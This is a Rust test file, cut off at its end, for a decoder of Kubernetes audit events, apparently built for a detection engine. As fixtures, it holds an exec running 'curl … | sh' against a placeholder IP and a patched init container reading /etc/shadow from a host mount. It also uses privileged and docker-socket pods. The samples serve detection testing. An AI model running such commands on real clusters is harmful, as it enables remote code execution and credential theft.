//! Audit events decoded: stages, principals, pod specs, patches, exec URIs, errors.

use std::path::{Path, PathBuf};

use super::*;
use crate::model::{Container, ContainerRole, HostMount};

fn decode_ok(text: &str) -> Decoded<'_> {
    match decode(text) {
        Ok(decoded) => decoded,
        Err(e) => panic!("{e}\n{text}"),
    }
}

fn shared_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/falco-k8s-audit")
}

/// The first line of a Falco trace file, or `None` (and a note) when `../shared` is
/// not checked out next to the project.
fn falco(file: &str) -> Option<String> {
    let dir = shared_dir();
    if !dir.is_dir() {
        println!("skipped: ../shared not present");
        return None;
    }
    let text = std::fs::read_to_string(dir.join(file)).unwrap();
    Some(text.lines().next().unwrap().to_owned())
}

fn sample_lines(name: &str) -> Vec<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../samples/k8s-audit")
        .join(name);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    text.lines().map(str::to_owned).collect()
}

fn by_name<'e, 'a>(event: &'e Event<'a>, name: &str) -> &'e Container<'a> {
    event
        .containers
        .iter()
        .find(|c| c.name.as_deref() == Some(name))
        .unwrap_or_else(|| panic!("no container {name} in {:?}", event.containers))
}

fn names(event: &Event<'_>) -> Vec<(String, ContainerRole)> {
    event
        .containers
        .iter()
        .map(|c| (c.name.as_deref().unwrap_or("").to_owned(), c.role))
        .collect()
}

// ---- Falco's trace files ----

#[test]
fn falco_every_file_decodes_or_errors_cleanly() {
    let dir = shared_dir();
    if !dir.is_dir() {
        println!("skipped: ../shared not present");
        return;
    }
    let mut records = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        for line in text.lines().filter(|l| !l.trim().is_empty()) {
            records += 1;
            let result = decode(line);
            if path.file_name().unwrap() == "fal_01_003.json" {
                assert!(result.is_err());
            } else if let Err(e) = result {
                panic!("{}: {e}", path.display());
            }
        }
    }
    assert!(records >= 47, "{records}");
}

#[test]
fn falco_privileged_pod() {
    let Some(text) = falco("create_nginx_pod_privileged.json") else {
        return;
    };
    let decoded = decode_ok(&text);
    let event = &decoded.event;
    assert!(decoded.evaluate);
    assert_eq!(event.action, Action::WorkloadCreate);
    assert_eq!(event.raw_action, "create");
    let workload = event.workload.as_ref().unwrap();
    assert_eq!(workload.kind, "Pod");
    // From responseObject: the generated name and the uid.
    assert_eq!(
        workload.name.as_deref(),
        Some("nginx-deployment-5cdcc99dbf-rgw6z")
    );
    assert_eq!(workload.namespace.as_deref(), Some("default"));
    assert!(workload.uid.is_some());
    assert_eq!(event.containers.len(), 1);
    let nginx = by_name(event, "nginx");
    assert_eq!(nginx.security.privileged, Some(true));
    assert_eq!(nginx.role, ContainerRole::Main);
    assert_eq!(nginx.image.as_ref().unwrap().repository, "library/nginx");
    let principal = event.principal.as_ref().unwrap();
    assert_eq!(
        principal.name,
        "system:serviceaccount:kube-system:replicaset-controller"
    );
    assert_eq!(principal.source_ip.as_deref(), Some("::1"));
    assert_eq!(event.response_code, Some(201));
}

#[test]
fn falco_privileged_second_container() {
    let Some(text) = falco("create_nginx_pod_privileged_2nd_container.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_eq!(by_name(&event, "nginx1").security.privileged, Some(false));
    assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
}

#[test]
fn falco_no_security_context_first_privileged_second() {
    let Some(text) =
        falco("create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json")
    else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_ne!(by_name(&event, "nginx1").security.privileged, Some(true));
    assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
    assert_eq!(
        event
            .containers
            .iter()
            .filter(|c| c.security.privileged == Some(true))
            .count(),
        1
    );
}

#[test]
fn falco_host_network_true_and_absent() {
    let Some(text) = falco("create_nginx_pod_hostnetwork.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_eq!(by_name(&event, "nginx1").security.host_network, Some(true));
    // Host PID was not set: in a whole object that is false (see `pod_containers`).
    assert_eq!(by_name(&event, "nginx1").security.host_pid, Some(false));

    let Some(text) = falco("create_nginx_pod_nohostnetwork.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_eq!(by_name(&event, "nginx1").security.host_network, Some(false));
}

#[test]
fn falco_sensitive_mount() {
    let Some(text) = falco("create_nginx_pod_sensitive_mount.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    let nginx = by_name(&event, "nginx");
    assert_eq!(
        nginx.security.host_mounts,
        vec![HostMount {
            host_path: Cow::Borrowed("/etc"),
            container_path: Some(Cow::Borrowed("/host/etc")),
            read_only: false,
        }]
    );

    let Some(text) = falco("create_nginx_pod_sensitive_mount_2nd_container.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert!(by_name(&event, "nginx1").security.host_mounts.is_empty());
    assert_eq!(
        by_name(&event, "mysql").security.host_mounts[0].host_path,
        "/etc"
    );
}

#[test]
fn falco_exec_pod() {
    let Some(text) = falco("exec_pod.json") else {
        return;
    };
    let decoded = decode_ok(&text);
    let event = &decoded.event;
    assert!(
        decoded.evaluate,
        "ResponseStarted of an exec is the stage evaluated"
    );
    assert_eq!(event.action, Action::ContainerExec);
    assert_eq!(event.raw_action, "create");
    let process = event.process.as_ref().unwrap();
    assert_eq!(process.args, vec!["bash"]);
    assert_eq!(process.executable.as_deref(), Some("bash"));
    assert_eq!(process.command_line.as_deref(), Some("bash"));
    assert_eq!(
        names(event),
        vec![("nginx1".to_owned(), ContainerRole::Main)]
    );
    let workload = event.workload.as_ref().unwrap();
    assert_eq!(workload.kind, "Pod");
    assert_eq!(
        workload.name.as_deref(),
        Some("nginx-deployment-7998647bdf-phvq7")
    );
    assert_eq!(event.response_code, Some(101));
    assert_eq!(event.time_ns, Some(1_540_561_114_902_914_000));
}

#[test]
fn falco_attach_pod() {
    let Some(text) = falco("attach_pod.json") else {
        return;
    };
    let decoded = decode_ok(&text);
    assert!(decoded.evaluate);
    assert_eq!(decoded.event.action, Action::ContainerAttach);
    assert!(decoded.event.process.is_none());
    assert_eq!(decoded.event.containers[0].name.as_deref(), Some("nginx1"));
}

#[test]
fn falco_unprivileged() {
    let Some(text) = falco("create_nginx_pod_unprivileged.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    let nginx = by_name(&event, "nginx");
    assert_eq!(nginx.security.privileged, None);
    assert_eq!(nginx.security.host_network, Some(false));
    assert!(nginx.security.host_mounts.is_empty());
    assert!(nginx.security.cap_add.is_empty());
    assert_eq!(
        nginx.security.restart_policy.as_ref().unwrap().name,
        "Always"
    );
}

#[test]
fn falco_malformed_is_a_located_shape_error() {
    let Some(text) = falco("fal_01_003.json") else {
        return;
    };
    match decode(&text) {
        Err(DecodeError::Shape {
            column, message, ..
        }) => {
            assert_eq!(column, 10, "{message}");
            assert!(message.contains("Event"), "{message}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn falco_delete_deployment_has_no_containers_and_keeps_the_kind() {
    let Some(text) = falco("delete_deployment.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::WorkloadDelete);
    assert!(event.containers.is_empty());
    let workload = event.workload.unwrap();
    assert_eq!(workload.kind, "Deployment");
    assert_eq!(workload.name.as_deref(), Some("nginx-deployment"));
}

#[test]
fn falco_configmap_create_is_other() {
    let Some(text) = falco("create_configmap.json") else {
        return;
    };
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::Other);
    assert_eq!(event.workload.unwrap().kind, "ConfigMap");
}

// ---- samples/k8s-audit ----

#[test]
fn risky_samples() {
    let lines = sample_lines("risky.ndjson");
    assert_eq!(lines.len(), 7);
    let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();

    // 1. Privileged pod.
    let event = &decoded[0].event;
    assert!(decoded[0].evaluate);
    assert_eq!(event.action, Action::WorkloadCreate);
    let c = by_name(event, "priv-debug");
    assert_eq!(c.security.privileged, Some(true));
    assert_eq!(c.security.entrypoint, Some(vec![Cow::Borrowed("sleep")]));
    assert_eq!(c.security.command, Some(vec![Cow::Borrowed("infinity")]));
    assert_eq!(c.security.restart_policy.as_ref().unwrap().name, "Never");
    assert_eq!(event.principal.as_ref().unwrap().name, "alice@example.com");
    assert_eq!(event.time_ns, Some(1_715_677_923_531_904_000));

    // 2. Docker socket.
    let event = &decoded[1].event;
    let build = by_name(event, "build");
    assert_eq!(build.security.host_mounts.len(), 1);
    assert_eq!(
        build.security.host_mounts[0].host_path,
        "/var/run/docker.sock"
    );
    assert_eq!(
        build.security.host_mounts[0].container_path.as_deref(),
        Some("/var/run/docker.sock")
    );
    assert_eq!(
        build.image.as_ref().unwrap().tag.as_deref(),
        Some("26.1-cli")
    );
    assert!(build.security.command.as_ref().unwrap()[0].contains("&& docker push"));

    // 3. hostPID + hostNetwork, name generated by the server.
    let event = &decoded[2].event;
    let shell = by_name(event, "shell");
    assert_eq!(shell.security.host_pid, Some(true));
    assert_eq!(shell.security.host_network, Some(true));
    assert_eq!(shell.security.host_ipc, Some(false));
    assert_eq!(shell.security.privileged, None);
    let workload = event.workload.as_ref().unwrap();
    assert_eq!(workload.name.as_deref(), Some("node-shell-8f2kq"));
    assert_eq!(workload.namespace.as_deref(), Some("kube-system"));

    // 4. Deployment with an init container and a native sidecar.
    let event = &decoded[3].event;
    assert_eq!(event.action, Action::WorkloadCreate);
    assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
    assert_eq!(
        names(event),
        vec![
            ("web".to_owned(), ContainerRole::Main),
            ("init-setup".to_owned(), ContainerRole::Init),
            ("log-shipper".to_owned(), ContainerRole::Init),
        ]
    );
    assert_eq!(by_name(event, "web").security.user.as_deref(), Some("1000"));
    assert_eq!(
        by_name(event, "web")
            .security
            .restart_policy
            .as_ref()
            .unwrap()
            .name,
        "Always"
    );
    assert_eq!(by_name(event, "init-setup").security.restart_policy, None);
    assert_eq!(
        by_name(event, "log-shipper")
            .security
            .restart_policy
            .as_ref()
            .unwrap()
            .name,
        "Always"
    );

    // 5. CronJob.
    let event = &decoded[4].event;
    assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
    let cleanup = by_name(event, "cleanup");
    assert_eq!(cleanup.security.user.as_deref(), Some("0"));
    assert_eq!(cleanup.security.cap_add, vec!["SYS_ADMIN", "NET_ADMIN"]);
    assert_eq!(
        cleanup.security.restart_policy.as_ref().unwrap().name,
        "OnFailure"
    );
    assert_eq!(
        cleanup.image.as_ref().unwrap().registry,
        "203.0.113.50:5000"
    );

    // 6. and 7. One exec, two stages: the engine evaluates whichever comes first.
    let (started, complete) = (&decoded[5], &decoded[6]);
    assert_eq!(started.event.request_id, complete.event.request_id);
    assert_eq!(evaluation(started), FIRST);
    assert_eq!(evaluation(complete), FIRST);
    let event = &started.event;
    assert_eq!(event.action, Action::ContainerExec);
    assert_eq!(event.raw_action, "get");
    assert_eq!(event.response_code, Some(101));
    assert_eq!(
        names(event),
        vec![("init-setup".to_owned(), ContainerRole::Main)]
    );
    let process = event.process.as_ref().unwrap();
    assert_eq!(
        process.args,
        vec!["sh", "-c", "curl -fsSL http://203.0.113.50/x.sh | sh"]
    );
    assert_eq!(
        process.command_line.as_deref(),
        Some("sh -c 'curl -fsSL http://203.0.113.50/x.sh | sh'")
    );
    assert_eq!(
        event.principal.as_ref().unwrap().source_ip.as_deref(),
        Some("10.0.12.4")
    );
}

#[test]
fn benign_samples() {
    let lines = sample_lines("benign.ndjson");
    assert_eq!(lines.len(), 4);
    let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();

    let event = &decoded[0].event;
    assert!(decoded[0].evaluate);
    assert_eq!(event.action, Action::WorkloadCreate);
    let nginx = by_name(event, "nginx");
    assert_eq!(nginx.security.privileged, None);
    assert_eq!(nginx.security.user.as_deref(), Some("101"));
    assert!(nginx.security.host_mounts.is_empty());
    assert!(nginx.security.cap_add.is_empty());
    assert_eq!(nginx.security.host_pid, Some(false));
    assert_eq!(
        event.workload.as_ref().unwrap().name.as_deref(),
        Some("nginx-6b7f675859-t5w8r")
    );

    assert_eq!(decoded[1].event.action, Action::ResourceList);
    assert!(decoded[1].evaluate);
    assert_eq!(decoded[1].event.workload.as_ref().unwrap().kind, "Pod");
    assert!(decoded[1].event.workload.as_ref().unwrap().name.is_none());

    assert_eq!(decoded[2].event.action, Action::ResourceGet);
    assert_eq!(
        decoded[2].event.workload.as_ref().unwrap().kind,
        "ConfigMap"
    );

    assert!(!decoded[3].evaluate, "RequestReceived is never evaluated");
    assert_eq!(decoded[3].event.action, Action::Other);
    assert_eq!(decoded[3].event.workload.as_ref().unwrap().kind, "leases");
    assert_eq!(decoded[3].event.response_code, None);
}

// ---- inline events ----

const HEAD: &str =
    r#""kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"a1""#;

fn event_with(rest: &str) -> String {
    format!("{{{HEAD},{rest}}}")
}

#[test]
fn v1_event_timed_by_request_received_only() {
    let text = event_with(
        r#""stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/secrets/db","verb":"get","user":{"username":"bob","uid":"u-1","groups":["dev","system:authenticated"]},"sourceIPs":["192.0.2.9"],"userAgent":"curl/8.5.0","objectRef":{"resource":"secrets","namespace":"default","name":"db","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":403},"requestReceivedTimestamp":"2024-05-14T09:12:03.512345Z""#,
    );
    let decoded = decode_ok(&text);
    let event = &decoded.event;
    assert!(decoded.evaluate);
    assert_eq!(event.time_ns, Some(1_715_677_923_512_345_000));
    assert_eq!(event.action, Action::ResourceGet);
    assert_eq!(event.request_id.as_deref(), Some("a1"));
    assert_eq!(event.response_code, Some(403));
    let principal = event.principal.as_ref().unwrap();
    assert_eq!(principal.uid.as_deref(), Some("u-1"));
    assert_eq!(principal.groups, vec!["dev", "system:authenticated"]);
    assert_eq!(principal.user_agent.as_deref(), Some("curl/8.5.0"));
    // Strings without escapes are borrowed from the record.
    assert!(matches!(principal.name, Cow::Borrowed(_)));
    assert!(matches!(
        event.workload.as_ref().unwrap().name,
        Some(Cow::Borrowed(_))
    ));
    assert_eq!(event.workload.as_ref().unwrap().kind, "Secret");
}

#[test]
fn stage_decides_evaluation() {
    let with_stage = |stage: &str, verb: &str, sub: &str| {
        let stage = if stage.is_empty() {
            String::new()
        } else {
            format!(r#""stage":"{stage}","#)
        };
        let sub = if sub.is_empty() {
            String::new()
        } else {
            format!(r#","subresource":"{sub}""#)
        };
        let text = event_with(&format!(
            r#"{stage}"verb":"{verb}","objectRef":{{"resource":"pods","namespace":"a","name":"p"{sub}}}"#
        ));
        evaluation(&decode_ok(&text))
    };
    assert_eq!(with_stage("RequestReceived", "create", ""), NEVER);
    assert_eq!(with_stage("ResponseComplete", "create", ""), ALWAYS);
    assert_eq!(with_stage("Panic", "create", ""), ALWAYS);
    assert_eq!(with_stage("ResponseStarted", "create", ""), NEVER);
    assert_eq!(
        with_stage("", "create", ""),
        ALWAYS,
        "a missing stage is evaluated"
    );
    // Long-running requests: whichever of their two last stages comes first, since a
    // forbidden exec or an audit policy's `omitStages` leaves only `ResponseComplete`.
    assert_eq!(with_stage("ResponseStarted", "create", "exec"), FIRST);
    assert_eq!(with_stage("ResponseComplete", "create", "exec"), FIRST);
    assert_eq!(with_stage("Panic", "create", "exec"), FIRST);
    assert_eq!(with_stage("RequestReceived", "get", "exec"), NEVER);
    assert_eq!(with_stage("ResponseStarted", "create", "attach"), FIRST);
    assert_eq!(
        with_stage("ResponseStarted", "create", "portforward"),
        FIRST
    );
    assert_eq!(
        with_stage("ResponseComplete", "create", "portforward"),
        FIRST
    );
    assert_eq!(with_stage("ResponseStarted", "watch", ""), FIRST);
    assert_eq!(with_stage("ResponseComplete", "watch", ""), FIRST);
    assert_eq!(with_stage("ResponseComplete", "get", "log"), ALWAYS);
}

const NEVER: &str = "never";
const ALWAYS: &str = "always";
const FIRST: &str = "first of its request";

/// How the engine treats a decoded stage.
fn evaluation(decoded: &Decoded<'_>) -> &'static str {
    match (decoded.evaluate, decoded.evaluate_once) {
        (false, _) => NEVER,
        (true, false) => ALWAYS,
        (true, true) => FIRST,
    }
}

#[test]
fn exec_over_websocket_with_percent_encoding() {
    let text = event_with(
        r#""stage":"ResponseStarted","requestURI":"/api/v1/namespaces/prod/pods/web-1/exec?command=sh\u0026command=-c\u0026command=id%20-u\u0026container=init-setup\u0026stdin=true\u0026tty=true","verb":"get","user":{"username":"alice"},"objectRef":{"resource":"pods","namespace":"prod","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101}"#,
    );
    let decoded = decode_ok(&text);
    assert!(decoded.evaluate);
    let event = &decoded.event;
    assert_eq!(event.action, Action::ContainerExec);
    assert_eq!(event.raw_action, "get");
    let process = event.process.as_ref().unwrap();
    assert_eq!(process.args, vec!["sh", "-c", "id -u"]);
    assert_eq!(process.executable.as_deref(), Some("sh"));
    assert_eq!(process.command_line.as_deref(), Some("sh -c 'id -u'"));
    assert_eq!(
        names(event),
        vec![("init-setup".to_owned(), ContainerRole::Main)]
    );
}

fn workload_event(resource: &str, group: &str, verb: &str, request_object: &str) -> String {
    event_with(&format!(
        r#""stage":"ResponseComplete","verb":"{verb}","user":{{"username":"alice"}},"objectRef":{{"resource":"{resource}","namespace":"prod","name":"w","apiGroup":"{group}","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{request_object}"#
    ))
}

const POD_SPEC: &str = r#"{"initContainers":[{"name":"setup","image":"busybox","command":["sh","-c","echo hi"],"volumeMounts":[{"name":"host","mountPath":"/h","readOnly":true,"subPath":"sub"}]},{"name":"proxy","image":"envoyproxy/envoy:v1.30","restartPolicy":"Always"}],"containers":[{"name":"app","image":"app:1","args":["--serve"],"securityContext":{"runAsUser":1000,"capabilities":{"add":["NET_RAW"]}}}],"volumes":[{"name":"host","hostPath":{"path":"/var/lib/"}},{"name":"logs","hostPath":{"path":"/var/log"}},{"name":"tmp","emptyDir":{}}],"securityContext":{"runAsUser":2000},"hostIPC":true,"restartPolicy":"Always"}"#;

#[test]
fn deployment_with_init_containers() {
    let object = format!(
        r#"{{"kind":"Deployment","apiVersion":"apps/v1","metadata":{{"name":"w","namespace":"prod"}},"spec":{{"replicas":2,"template":{{"metadata":{{"labels":{{"app":"w"}}}},"spec":{POD_SPEC}}}}}}}"#
    );
    let text = workload_event("deployments", "apps", "create", &object);
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::WorkloadCreate);
    assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
    assert_eq!(
        names(&event),
        vec![
            ("app".to_owned(), ContainerRole::Main),
            ("setup".to_owned(), ContainerRole::Init),
            ("proxy".to_owned(), ContainerRole::Init),
        ]
    );
    let app = by_name(&event, "app");
    assert_eq!(app.security.user.as_deref(), Some("1000"));
    assert_eq!(app.security.cap_add, vec!["NET_RAW"]);
    assert_eq!(app.security.command, Some(vec![Cow::Borrowed("--serve")]));
    assert_eq!(app.security.entrypoint, None);
    assert_eq!(app.security.host_ipc, Some(true));
    assert_eq!(app.security.restart_policy.as_ref().unwrap().name, "Always");
    // `/var/log` is mounted by nobody, so it is on every container.
    assert_eq!(app.security.host_mounts.len(), 1);
    assert_eq!(app.security.host_mounts[0].host_path, "/var/log");
    assert_eq!(app.security.host_mounts[0].container_path, None);

    let setup = by_name(&event, "setup");
    assert_eq!(setup.security.user.as_deref(), Some("2000"));
    assert_eq!(setup.security.restart_policy, None);
    assert_eq!(setup.security.entrypoint.as_ref().unwrap().len(), 3);
    assert_eq!(
        setup.security.host_mounts[0],
        HostMount {
            host_path: Cow::Borrowed("/var/lib/sub"),
            container_path: Some(Cow::Borrowed("/h")),
            read_only: true,
        }
    );
    assert_eq!(setup.security.host_mounts[1].host_path, "/var/log");
    assert_eq!(
        by_name(&event, "proxy")
            .security
            .restart_policy
            .as_ref()
            .unwrap()
            .name,
        "Always"
    );
}

#[test]
fn cronjob_with_init_containers() {
    let object = format!(
        r#"{{"kind":"CronJob","apiVersion":"batch/v1","metadata":{{"name":"w"}},"spec":{{"schedule":"* * * * *","jobTemplate":{{"spec":{{"backoffLimit":1,"template":{{"spec":{POD_SPEC}}}}}}}}}}}"#
    );
    let text = workload_event("cronjobs", "batch", "create", &object);
    let event = decode_ok(&text).event;
    assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
    assert_eq!(
        names(&event),
        vec![
            ("app".to_owned(), ContainerRole::Main),
            ("setup".to_owned(), ContainerRole::Init),
            ("proxy".to_owned(), ContainerRole::Init),
        ]
    );
}

#[test]
fn a_custom_resource_named_like_a_workload_is_not_read_as_one() {
    let object = format!(r#"{{"kind":"Deployment","spec":{{"template":{{"spec":{POD_SPEC}}}}}}}"#);
    let text = workload_event("deployments", "example.com", "create", &object);
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::Other);
    assert!(event.containers.is_empty());
    assert_eq!(event.workload.unwrap().kind, "Deployment");

    // Its spec may be anything.
    let text = workload_event(
        "widgets",
        "example.com",
        "create",
        r#"{"kind":"Widget","spec":{"containers":7}}"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.workload.unwrap().kind, "Widget");
}

#[test]
fn patch_documents() {
    // A label patch: no pod spec, no containers, no error.
    let text = workload_event(
        "deployments",
        "apps",
        "patch",
        r#"{"metadata":{"labels":{"tier":"web"}}}"#,
    );
    let decoded = decode_ok(&text);
    assert_eq!(decoded.event.action, Action::WorkloadPatch);
    assert!(decoded.event.containers.is_empty());
    assert_eq!(
        decoded.event.workload.as_ref().unwrap().name.as_deref(),
        Some("w")
    );

    // A JSON patch is an array: a field written inside a container by index gives an
    // unnamed container that carries just that field.
    let text = workload_event(
        "deployments",
        "apps",
        "patch",
        r#"[{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true}]"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.containers.len(), 1);
    assert_eq!(event.containers[0].name, None);
    assert_eq!(event.containers[0].security.privileged, Some(true));
    assert_eq!(event.containers[0].security.host_pid, None);
    // One that does not reach the pod spec says nothing.
    let text = workload_event(
        "deployments",
        "apps",
        "patch",
        r#"[{"op":"replace","path":"/spec/replicas","value":3},{"op":"remove","path":"/spec/template/spec/hostPID"}]"#,
    );
    assert!(decode_ok(&text).event.containers.is_empty());

    // A strategic merge patch names the containers it changes; what it does not set
    // stays unknown.
    let text = workload_event(
        "deployments",
        "apps",
        "patch",
        r#"{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"app"}],"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}"#,
    );
    let event = decode_ok(&text).event;
    let app = by_name(&event, "app");
    assert_eq!(app.security.privileged, Some(true));
    assert_eq!(app.security.host_pid, None);
    assert_eq!(app.image, None);

    // A merge patch that does not fit the pod spec is skipped, not an error.
    let text = workload_event("pods", "", "patch", r#"{"spec":{"containers":"oops"}}"#);
    assert!(decode_ok(&text).event.containers.is_empty());
}

#[test]
fn json_patch_operations() {
    // An init container added to a Deployment, with a hostPath volume it mounts.
    let text = workload_event(
        "deployments",
        "apps",
        "patch",
        r#"[{"op":"add","path":"/spec/template/spec/volumes/-","value":{"name":"host","hostPath":{"path":"/"}}},{"op":"add","path":"/spec/template/spec/initContainers/-","value":{"name":"grab","image":"busybox:1.36","command":["sh","-c","cat /host/etc/shadow"],"volumeMounts":[{"name":"host","mountPath":"/host"}]}},{"op":"add","path":"/spec/template/spec/hostPID","value":true},{"op":"test","path":"/spec/replicas","value":1}]"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.action, Action::WorkloadPatch);
    assert_eq!(
        names(&event),
        vec![("grab".to_owned(), ContainerRole::Init)]
    );
    let grab = &event.containers[0];
    assert_eq!(grab.security.host_pid, Some(true));
    assert_eq!(grab.security.host_network, None);
    assert_eq!(grab.security.host_mounts[0].host_path, "/");
    assert_eq!(
        grab.security.host_mounts[0].container_path.as_deref(),
        Some("/host")
    );
    assert_eq!(grab.security.entrypoint.as_ref().unwrap().len(), 3);

    // A CronJob's containers, a whole list, and capabilities one by one.
    let text = workload_event(
        "cronjobs",
        "batch",
        "patch",
        r#"[{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers","value":[{"name":"run","image":"alpine"}]},{"op":"add","path":"/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add/-","value":"SYS_PTRACE"}]"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.containers.len(), 2);
    assert_eq!(event.containers[0].name.as_deref(), Some("run"));
    assert_eq!(event.containers[1].security.cap_add, vec!["SYS_PTRACE"]);

    // Pod-level only: one unnamed container carries it.
    let text = workload_event(
        "pods",
        "",
        "patch",
        r#"[{"op":"add","path":"/spec/hostNetwork","value":true}]"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(event.containers.len(), 1);
    assert_eq!(event.containers[0].security.host_network, Some(true));

    // Values of the wrong type, unknown fields and odd paths are skipped.
    let text = workload_event(
        "pods",
        "",
        "patch",
        r#"[{"op":"add","path":"/spec/hostPID","value":"yes"},{"op":"add","path":"/spec/containers/0/resources","value":{}},{"op":"add","path":"/spec/","value":1},{"op":"add","path":"/spec/containers/0/securityContext/capabilities/add/0/x","value":"A"},{"path":"/spec/hostIPC"},7]"#,
    );
    assert!(decode_ok(&text).event.containers.is_empty());
    let text = workload_event("pods", "", "patch", "[]");
    assert!(decode_ok(&text).event.containers.is_empty());

    // An ephemeral container added through the subresource by JSON patch.
    let text = event_with(
        r#""stage":"ResponseComplete","verb":"patch","objectRef":{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"},"requestObject":[{"op":"add","path":"/spec/ephemeralContainers/-","value":{"name":"debugger-x","image":"busybox","targetContainerName":"app","stdin":true,"tty":true}}]"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(
        names(&event),
        vec![("debugger-x".to_owned(), ContainerRole::Ephemeral)]
    );
}

#[test]
fn owners_and_principals() {
    let text = event_with(
        r#""stage":"ResponseComplete","verb":"create","user":{"username":"system:serviceaccount:kube-system:replicaset-controller","uid":"u-1","groups":["system:serviceaccounts"]},"objectRef":{"resource":"pods","namespace":"prod"},"requestObject":{"kind":"Pod","metadata":{"generateName":"web-5d9c-","ownerReferences":[{"apiVersion":"v1","kind":"Node","name":"n","controller":false},{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-5d9c","uid":"x","controller":true,"blockOwnerDeletion":true}]},"spec":{"containers":[{"name":"web","image":"nginx"}]}}"#,
    );
    let event = decode_ok(&text).event;
    assert_eq!(
        event.workload.as_ref().unwrap().owner.as_deref(),
        Some("ReplicaSet/web-5d9c")
    );
    let principal = event.principal.unwrap();
    assert_eq!(principal.kind.as_deref(), Some("serviceaccount"));
    assert_eq!(principal.uid.as_deref(), Some("u-1"));

    // No controller: the first owner; an owner without a name is none.
    let with_owners = |owners: &str| {
        let text = event_with(&format!(
            r#""verb":"create","objectRef":{{"resource":"pods"}},"requestObject":{{"kind":"Pod","metadata":{{"name":"p","ownerReferences":{owners}}},"spec":{{}}}}"#
        ));
        decode_ok(&text)
            .event
            .workload
            .unwrap()
            .owner
            .map(|o| o.into_owned())
    };
    assert_eq!(
        with_owners(r#"[{"kind":"Job","name":"j"}]"#).as_deref(),
        Some("Job/j")
    );
    assert_eq!(with_owners(r#"[{"kind":"Job"}]"#), None);
    assert_eq!(with_owners("[]"), None);

    assert_eq!(principal_kind("system:node:ip-10-0-1-5"), Some("node"));
    assert_eq!(principal_kind("kubernetes-admin"), Some("user"));
    assert_eq!(principal_kind(""), None);
}

#[test]
fn eks_iam_identity() {
    let text = event_with(
        r#""stage":"ResponseComplete","verb":"get","user":{"username":"arn:aws:sts::111122223333:assumed-role/Admin/alice","uid":"aws-iam-authenticator:111122223333:AROAEXAMPLEID","groups":["system:authenticated"],"extra":{"accessKeyId":["ASIAEXAMPLE"],"arn":["arn:aws:sts::111122223333:assumed-role/Admin/alice"],"canonicalArn":["arn:aws:iam::111122223333:role/Admin"],"principalId":["AROAEXAMPLEID"],"sessionName":["alice"]}},"objectRef":{"resource":"secrets","namespace":"prod","name":"db"}"#,
    );
    let principal = decode_ok(&text).event.principal.unwrap();
    assert_eq!(
        principal.uid.as_deref(),
        Some("arn:aws:sts::111122223333:assumed-role/Admin/alice")
    );
    assert_eq!(principal.kind.as_deref(), Some("user"));
    // Other `extra` values of odd shapes do not stop the record.
    let text = event_with(
        r#""verb":"get","user":{"username":"bob","extra":{"arn":"arn:aws:iam::1:user/bob","x":[1,2],"y":null}}"#,
    );
    let principal = decode_ok(&text).event.principal.unwrap();
    assert_eq!(principal.uid.as_deref(), Some("arn:aws:iam::1:user/bob"));
    let text = event_with(r#""verb":"get","user":{"username":"bob","extra":{"arn":[]}}"#);
    assert_eq!(decode_ok(&text).event.principal.unwrap().uid, None);
}

#[test]
fn permission_discovery_is_a_list() {
    let text = event_with(
        r#""stage":"ResponseComplete","requestURI":"/apis/authorization.k8s.io/v1/selfsubjectrulesreviews","verb":"create","user":{"username":"system:serviceaccount:prod:web"},"objectRef":{"resource":"selfsubjectrulesreviews","apiGroup":"authorization.k8s.io","apiVersion":"v1"},"responseStatus":{"code":201},"requestObject":{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"prod"}}"#,
    );
    let decoded = decode_ok(&text);
    assert!(decoded.evaluate);
    assert_eq!(decoded.event.action, Action::ResourceList);
    assert_eq!(
